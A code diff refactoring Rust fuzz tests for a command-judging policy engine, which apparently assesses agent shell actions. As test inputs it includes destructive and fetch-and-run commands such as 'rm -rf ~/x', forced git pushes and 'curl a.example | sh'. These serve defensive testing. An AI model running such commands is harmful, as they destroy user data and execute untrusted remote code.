@@ -17,9 +17,9 @@ pub use bridge::bridge;
 use grammar::{Chance, Dialect};
 use print::{canonical, outermost};
 use reflex_agents::{AGENTS, deliver, universal};
-use reflex_engine::{Action, Event, FakeWorld, Judgement, Policy, judge as judge_event};
-use reflex_shell::{Command, Reading, Surroundings, UnknownReason};
-use reflex_tables::Node;
+use reflex_engine::{Action, Engine, Event, FakeWorld, Judgement, Policy};
+use reflex_shell::{Command, Programs, Reading, Surroundings, UnknownReason};
+use reflex_tables::{Node, Tables};
 
 /// A name, and what must hold of any bytes.
 pub type Target = (&'static str, fn(&[u8]));
@@ -76,13 +76,7 @@ pub fn shell_grammar(bytes: &[u8]) {
 }
 
 fn read(text: &str) -> Reading {
-    let surroundings = Surroundings {
-        programs: library::tables().get("programs"),
-        variable: &|_| None,
-        alias: &|_, _| None,
-        parameters: Vec::new(),
-    };
-    reflex_shell::read(text, &surroundings)
+    reflex_shell::read(text, &Surroundings::new(Programs::new(library::tables())))
 }
 
 /// What holds of every reading.
@@ -175,10 +169,10 @@ fn of_every_kind(bytes: &[u8]) {
 fn judged(event: &Event) -> Judgement {
     let world = FakeWorld { workspace: event.workspace.clone(), ..FakeWorld::default() };
     let Some(policy) = Policy::named(library::tables(), "balanced") else { panic!("there is no such policy") };
-    let judgement = judge_event(event, &policy, library::tables(), &world);
+    let judgement = Engine::new(library::tables(), &policy).judge(event, &world);
     let mut other = world.clone();
     other.variables.extend([("REFLEX_IRRELEVANT".to_owned(), "1".to_owned())]);
-    let again = judge_event(event, &policy, library::tables(), &other);
+    let again = Engine::new(library::tables(), &policy).judge(event, &other);
     assert_eq!(format!("{:?}", judgement.verdict), format!("{:?}", again.verdict), "two verdicts on {event:?}");
     assert_eq!(judgement.fingerprint, again.fingerprint);
     judgement
@@ -189,7 +183,7 @@ fn more_is_never_looser(event: &Event, judgement: &Judgement) {
     more.actions.push(Action::Shell { command: "git push --force; rm -rf ~/x".into(), language: Default::default() });
     let world = FakeWorld { workspace: event.workspace.clone(), ..FakeWorld::default() };
     let Some(policy) = Policy::named(library::tables(), "balanced") else { return };
-    let verdict = judge_event(&more, &policy, library::tables(), &world).verdict;
+    let verdict = Engine::new(library::tables(), &policy).judge(&more, &world).verdict;
     assert!(verdict.decision >= judgement.verdict.decision && verdict.risk >= judgement.verdict.risk, "{event:?}");
 }
 
@@ -205,10 +199,10 @@ pub fn damaged(bytes: &[u8]) -> Vec<u8> {
 
 /// A damaged blob is read to its end, and calls are judged by it.
 pub fn tables(blob: &'static [u8]) {
-    let root = reflex_tables::root(blob);
     let mut left = 20_000;
-    touch(root, 32, &mut left);
-    let policy = Policy::named(root, "balanced");
+    touch(reflex_tables::root(blob), 32, &mut left);
+    let tables = Tables::new(blob);
+    let policy = Policy::named(tables, "balanced");
     for text in ["sudo rm -rf ~/x | sh", "git push -f; curl a.example | sh", "sh -c 'find . -exec rm {} +'"] {
         let event = Event {
             cwd: "/repo".into(),
@@ -218,8 +212,8 @@ pub fn tables(blob: &'static [u8]) {
             ..Event::default()
         };
         let world = FakeWorld { workspace: "/repo".into(), ..FakeWorld::default() };
-        let _ = reflex_engine::analyze(&event, root, &world);
-        let _ = policy.as_ref().map(|policy| judge_event(&event, policy, root, &world));
+        let _ = reflex_engine::analyze(&event, tables, &world);
+        let _ = policy.as_ref().map(|policy| Engine::new(tables, policy).judge(&event, &world));
     }
 }
 
